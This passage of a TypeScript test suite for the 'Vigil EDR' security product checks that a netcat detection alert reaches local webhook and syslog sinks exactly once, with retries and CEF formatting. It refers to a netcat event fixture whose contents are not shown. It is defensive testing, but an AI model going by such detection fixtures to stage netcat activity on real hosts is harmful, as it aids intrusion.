      for (const a of ['ir.requested', 'ir.delivered', 'ir.succeeded']) assert.ok(actions.includes(a), `${a} in ${actions.join(', ')}`);
      assert.ok(actions.some((a: string) => /revoke/.test(a)), `the revocation in ${actions.join(', ')}`);
      const requested = entries.find((e: any) => e.action === 'ir.requested');
      assert.match(requested.actor, /^apikey:/);
      assert.equal(requested.tenant_id, 'default');
      const verify = await d.api('POST', '/ledger/verify', {});
      assert.equal(verify.status, 200, JSON.stringify(verify.body));
      assert.equal(verify.body.ok, true, JSON.stringify(verify.body));
      assert.ok(verify.body.size >= entries.length);
    });

    test('alert delivery: webhook and syslog sinks made through the API get the alert once via the outbox; a failure is retried; status per alert', scenario('delivery'), async () => {
      const posts: { body: string; delivery: string }[] = [];
      let failFirst = true;
      const hook = createServer((req, res) => {
        const chunks: Buffer[] = [];
        req.on('data', (c: Buffer) => chunks.push(c));
        req.on('end', () => {
          posts.push({ body: Buffer.concat(chunks).toString(), delivery: String(req.headers['x-vigil-delivery']) });
          res.writeHead(failFirst ? 503 : 204).end();
          failFirst = false;
        });
      });
      let frames = '';
      const peers = new Set<Socket>();
      const syslog = createTcpServer((s) => { peers.add(s); s.on('data', (c: Buffer) => { frames += c.toString(); }); });
      await Promise.all([new Promise<void>((r) => hook.listen(0, '127.0.0.1', r)), new Promise<void>((r) => syslog.listen(0, '127.0.0.1', r))]);
      try {
        const webhook = await d.api('POST', '/alert-sinks', { name: `sys-hook-${kind.name}`, url: `http://127.0.0.1:${(hook.address() as AddressInfo).port}/h`, filters: { min_severity: 'high' } });
        assert.equal(webhook.status, 201, JSON.stringify(webhook.body));
        const tcp = await d.api('POST', '/alert-sinks', { name: `sys-syslog-${kind.name}`, type: 'syslog', url: `tcp://127.0.0.1:${(syslog.address() as AddressInfo).port}`, format: 'cef' });
        assert.equal(tcp.status, 201, JSON.stringify(tcp.body));
        const agent = await d.enrol('sys-delivery');
        assert.equal((await agent.send(agent.events(1, NETCAT))).accepted, 1);
        const [alert] = await until('the netcat alert', async () => { const a = await alertsOf(d, agent); return a.length ? a : undefined; });
        const deliveries = await until('both deliveries made', async () => {
          const r = await d.api('GET', `/alerts/${alert.id}/deliveries`);
          return r.status === 200 && r.body.deliveries.length === 2 && r.body.deliveries.every((x: any) => x.state === 'delivered') ? r.body.deliveries : undefined;
        });
        const byName = Object.fromEntries(deliveries.map((x: any) => [x.sink_name, x]));
        assert.equal(byName[`sys-hook-${kind.name}`].attempts, 2, 'the 503 was retried');
        assert.equal(byName[`sys-syslog-${kind.name}`].attempts, 1);
        const mine = posts.filter((p) => p.body.includes(alert.id));
        assert.equal(mine.length, 2, 'one failed attempt, one accepted');
        assert.equal(new Set(mine.map((p) => p.delivery)).size, 1, 'the same delivery both times');
        assert.equal(JSON.parse(mine[1].body).alert.host_id, agent.id);
        assert.match(frames, new RegExp(`\\d+ <35>1 \\S+ \\S+ vigil - alert\\.high \\[vigil@32473 alert_id="${alert.id}"`), frames.slice(0, 300));
        assert.match(frames, /CEF:0\|Vigil\|Vigil EDR\|/);
        await new Promise((r) => setTimeout(r, 1000));
        assert.equal(posts.filter((p) => p.body.includes(alert.id)).length, 2, 'not delivered again');
        const sinks = (await d.api('GET', '/alert-sinks')).body.alert_sinks.filter((s: any) => s.name.startsWith('sys-'));
        assert.ok(sinks.every((s: any) => s.health.breaker === 'closed' && s.health.last_success_at && s.health.queued === 0), JSON.stringify(sinks));
        for (const s of sinks) assert.equal((await d.api('DELETE', `/alert-sinks/${s.id}`)).status, 204);
      } finally {
        hook.closeAllConnections();
        for (const p of peers) p.destroy(); // the sink keeps its syslog connection open
        await Promise.all([new Promise((r) => hook.close(r)), new Promise((r) => syslog.close(r))]);
      }
    });
  });
}
